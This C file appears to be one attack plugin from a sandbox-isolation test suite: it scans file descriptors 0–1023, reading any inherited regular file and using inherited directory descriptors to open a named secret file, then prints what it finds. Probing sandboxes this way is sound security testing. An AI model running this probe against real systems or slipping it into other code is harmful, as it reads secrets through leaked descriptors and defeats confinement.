/*
 * fs_guess_descriptors — tries every descriptor number from 0 to 1023: a regular
 * file is read from offset 0 with pread (which leaves sockets, such as the
 * runner's channel, untouched), and a directory is used as the base of an openat()
 * of the secret's file name. Any descriptor the runner inherited or forgot to
 * close (a log file, the host's cwd, the plugin directory) becomes readable.
 */
#include "attack.h"

#include <sys/stat.h>

static sbx_status attack(const atk_input *in, atk_out *out)
{
    char secret[4096];
    const char *base;
    int found = 0;
    if (!atk_param(in, "secret_path", secret, sizeof secret)) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    base = strrchr(secret, '/');
    base = base != NULL ? base + 1 : secret;
    for (int fd = 0; fd < 1024; fd++) {
        struct stat st;
        char buf[4096];
        if (fstat(fd, &st) != 0) {
            continue;
        }
        if (S_ISREG(st.st_mode)) {
            ssize_t got = pread(fd, buf, sizeof buf, 0);
            if (got > 0) {
                atk_printf(out, "fd %d (regular, %lld bytes): ", fd, (long long)st.st_size);
                atk_put(out, buf, (size_t)got);
                atk_put(out, "\n", 1);
                found = 1;
            }
        } else if (S_ISDIR(st.st_mode)) {
            int file = openat(fd, base, O_RDONLY | O_CLOEXEC);
            atk_printf(out, "fd %d is a directory\n", fd);
            if (file >= 0) {
                ssize_t got = read(file, buf, sizeof buf);
                if (got > 0) {
                    atk_printf(out, "fd %d/%s: ", fd, base);
                    atk_put(out, buf, (size_t)got);
                    atk_put(out, "\n", 1);
                    found = 1;
                }
                close(file);
            }
        }
    }
    return found ? SBX_OK : SBX_ERR_INTERNAL;
}

ATK_INVOKE_PLUGIN(attack)
